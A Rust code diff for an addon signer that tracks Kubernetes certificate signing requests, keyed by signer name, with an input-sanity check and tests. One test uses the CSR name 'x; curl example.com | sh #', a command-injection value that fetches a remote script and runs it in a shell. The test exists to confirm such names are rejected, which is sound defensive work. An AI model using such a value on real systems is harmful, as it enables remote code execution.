@@ -14,6 +14,8 @@ use addon_signer_core::timestamp::Timestamp;
 
 /// Of how many addons of a cluster CSRs are noted: whoever makes a CSR chooses its labels.
 const MOST_OF_CLUSTER: usize = 64;
+/// Of how many signer names the CSRs of one addon are noted.
+const MOST_SIGNERS: usize = 4;
 /// The longest kept text in bytes of one condition.
 const MOST_TEXT: usize = 512;
 
@@ -43,15 +45,14 @@ enum CsrState {
 struct NotedCsr {
     made: Timestamp,
     name: String,
-    signer_name: String,
     state: CsrState,
     /// The list that showed it last.
     list: u64,
 }
 
-/// Of one addon on one cluster.
+/// Of one addon on one cluster, for one signer name.
 #[derive(Debug, Default)]
-struct OfAddOn {
+struct OfSigner {
     /// The newest that has no certificate.
     open: Option<NotedCsr>,
     /// The newest that has one.
@@ -61,7 +62,7 @@ struct OfAddOn {
 /// The newest CSRs.
 #[derive(Debug, Default)]
 pub struct NewestCsrs {
-    clusters: HashMap<ClusterName, HashMap<AddOnName, OfAddOn>>,
+    clusters: HashMap<ClusterName, HashMap<AddOnName, HashMap<String, OfSigner>>>,
     list: u64,
 }
 
@@ -69,23 +70,26 @@ impl NewestCsrs {
     /// Notes a CSR, if the cluster that its labels name made it. `grpc_proxy` is the account whose CSRs are for others.
     pub fn note(&mut self, csr: &CertificateSigningRequest, grpc_proxy: Option<&str>) {
         let Some(AddOnKey { cluster, addon }) = made_for(csr, grpc_proxy) else { return };
+        let name = csr.name_any();
+        if !action::is_sane_name(&name) {
+            return; // the hub ignores it
+        }
         let of_cluster = self.clusters.entry(cluster).or_default();
         if of_cluster.len() >= MOST_OF_CLUSTER && !of_cluster.contains_key(&addon) {
             return;
         }
         let of_addon = of_cluster.entry(addon).or_default();
-        let noted = NotedCsr {
-            made: action::requested(csr),
-            name: csr.name_any(),
-            signer_name: csr.spec.signer_name.clone(),
-            state: state(csr),
-            list: self.list,
-        };
-        let is_issued = matches!(noted.state, CsrState::Issued);
-        if is_issued && of_addon.open.as_ref().is_some_and(|open| open.name == noted.name) {
-            of_addon.open = None;
+        let signer_name = &csr.spec.signer_name;
+        if of_addon.len() >= MOST_SIGNERS && !of_addon.contains_key(signer_name) {
+            return;
         }
-        let slot = if is_issued { &mut of_addon.issued } else { &mut of_addon.open };
+        let of_signer = of_addon.entry(signer_name.clone()).or_default();
+        let noted = NotedCsr { made: action::requested(csr), name, state: state(csr), list: self.list };
+        let is_issued = matches!(noted.state, CsrState::Issued);
+        if is_issued && of_signer.open.as_ref().is_some_and(|open| open.name == noted.name) {
+            of_signer.open = None;
+        }
+        let slot = if is_issued { &mut of_signer.issued } else { &mut of_signer.open };
         if slot.as_ref().is_none_or(|known| known.made <= noted.made) {
             *slot = Some(noted);
         }
@@ -94,8 +98,9 @@ impl NewestCsrs {
     /// Notes that a CSR was deleted. One that was refused counts until there is a newer one: the hub deletes it.
     pub(crate) fn remove(&mut self, csr: &CertificateSigningRequest, grpc_proxy: Option<&str>) {
         let Some(AddOnKey { cluster, addon }) = made_for(csr, grpc_proxy) else { return };
-        if let Some(of_addon) = self.clusters.get_mut(&cluster).and_then(|addons| addons.get_mut(&addon)) {
-            of_addon.open.take_if(|open| open.name == csr.name_any() && !open.is_refused());
+        let of_addon = self.clusters.get_mut(&cluster).and_then(|addons| addons.get_mut(&addon));
+        if let Some(of_signer) = of_addon.and_then(|signers| signers.get_mut(&csr.spec.signer_name)) {
+            of_signer.open.take_if(|open| open.name == csr.name_any() && !open.is_refused());
         }
     }
 
@@ -107,8 +112,8 @@ impl NewestCsrs {
     /// Notes that the list is complete: what it did not show was deleted.
     pub(crate) fn complete_list(&mut self) {
         let list = self.list;
-        for of_addon in self.clusters.values_mut().flat_map(HashMap::values_mut) {
-            of_addon.open.take_if(|open| open.list < list && !open.is_refused());
+        for of_signer in self.clusters.values_mut().flat_map(HashMap::values_mut).flat_map(HashMap::values_mut) {
+            of_signer.open.take_if(|open| open.list < list && !open.is_refused());
         }
     }
 
@@ -120,15 +125,29 @@ impl NewestCsrs {
         });
     }
 
-    /// The newest CSR of an addon, unless a later one has a certificate. `answerer` is of its signer name; `None` if no
-    /// AddOnSigner has that.
-    pub fn open<'a>(&self, key: &AddOnKey, answerer: impl Fn(&str) -> Option<&'a Answerer>) -> Option<OpenCsr> {
-        let OfAddOn { open, issued } = self.clusters.get(&key.cluster)?.get(&key.addon)?;
-        let open = open.as_ref()?;
+    /// The newest CSR of an addon, unless a later one has a certificate. CSRs for signer names of AddOnSigners, which
+    /// have an `answerer`, come first. A refusal counts only if the CSR was made after `since`.
+    pub fn open<'a>(
+        &self,
+        key: &AddOnKey,
+        since: Option<Timestamp>,
+        answerer: impl Fn(&str) -> Option<&'a Answerer>,
+    ) -> Option<OpenCsr> {
+        let of_addon = self.clusters.get(&key.cluster)?.get(&key.addon)?;
+        let open = of_addon.iter().filter_map(|(signer_name, of_signer)| Some((signer_name, of_signer.open()?)));
+        let open = open.filter(|(_, csr)| !csr.is_refused() || since.is_none_or(|since| csr.made >= since));
+        let (name, csr) = open.max_by_key(|(name, csr)| (answerer(name).is_some(), csr.made, *name))?;
+        Some(csr.told(name, answerer(name)))
+    }
+}
+
+impl OfSigner {
+    /// The newest one, unless a later one has a certificate.
+    fn open(&self) -> Option<&NotedCsr> {
+        let open = self.open.as_ref()?;
         // The order of two in the same second is unknown; then one that waits counts as the later.
         let is_later = |issued: &NotedCsr| issued.made < open.made || (issued.made == open.made && !open.is_refused());
-        let same = issued.as_ref().filter(|issued| issued.signer_name == open.signer_name);
-        same.is_none_or(is_later).then(|| open.told(answerer(&open.signer_name)))
+        self.issued.as_ref().is_none_or(is_later).then_some(open)
     }
 }
 
@@ -137,8 +156,8 @@ impl NotedCsr {
         matches!(self.state, CsrState::Refused(_))
     }
 
-    fn told(&self, answerer: Option<&Answerer>) -> OpenCsr {
-        let (name, signer_name) = (self.name.clone(), self.signer_name.clone());
+    fn told(&self, signer_name: &str, answerer: Option<&Answerer>) -> OpenCsr {
+        let (name, signer_name) = (self.name.clone(), signer_name.to_owned());
         match (&self.state, answerer) {
             (CsrState::Refused(why), _) => OpenCsr::Refused { name, why: why.clone() },
             (_, None) => OpenCsr::NoSuchSigner { name, signer_name },
@@ -233,7 +252,7 @@ mod tests {
     }
 
     fn open(newest: &NewestCsrs, answerer: Option<&Answerer>) -> Option<OpenCsr> {
-        newest.open(&key("c1"), |_| answerer)
+        newest.open(&key("c1"), None, |_| answerer)
     }
 
     fn pending(waits_for: &str) -> OpenCsr {
@@ -278,6 +297,33 @@ mod tests {
         newest.begin_list();
         newest.complete_list();
         assert_eq!(open(&newest, None), None, "the list did not show it");
+    }
+
+    #[test]
+    fn csrs_for_our_signers_come_before_those_for_others() {
+        let mut newest = NewestCsrs::default();
+        let refused = with_conditions(mk_csr("c1", 1, None), &["Denied"]);
+        newest.note(&refused, None);
+        for n in 2..100 {
+            let mut other = mk_csr("c1", n, None);
+            other.spec.signer_name = format!("d.e/f{n}");
+            newest.note(&other, None);
+        }
+        let ours = Answerer::default();
+        let open = |since| newest.open(&key("c1"), since, |name| (name == "a.b/c").then_some(&ours));
+        assert!(matches!(open(None), Some(OpenCsr::Refused { .. })));
+        let later = open(Some(Timestamp::from_unix(2)));
+        assert!(matches!(later, Some(OpenCsr::NoSuchSigner { .. })), "the certificate is newer than the refusal");
+        assert_eq!(newest.clusters[&key("c1").cluster][&key("c1").addon].len(), MOST_SIGNERS);
+    }
+
+    #[test]
+    fn a_csr_that_the_hub_ignores_is_reported_to_nobody() {
+        let mut newest = NewestCsrs::default();
+        let mut csr = mk_csr("c1", 1, None);
+        csr.metadata.name = Some("x; curl example.com | sh #".to_owned());
+        newest.note(&csr, None);
+        assert_eq!(open(&newest, Some(&Answerer::default())), None);
     }
 
     #[test]
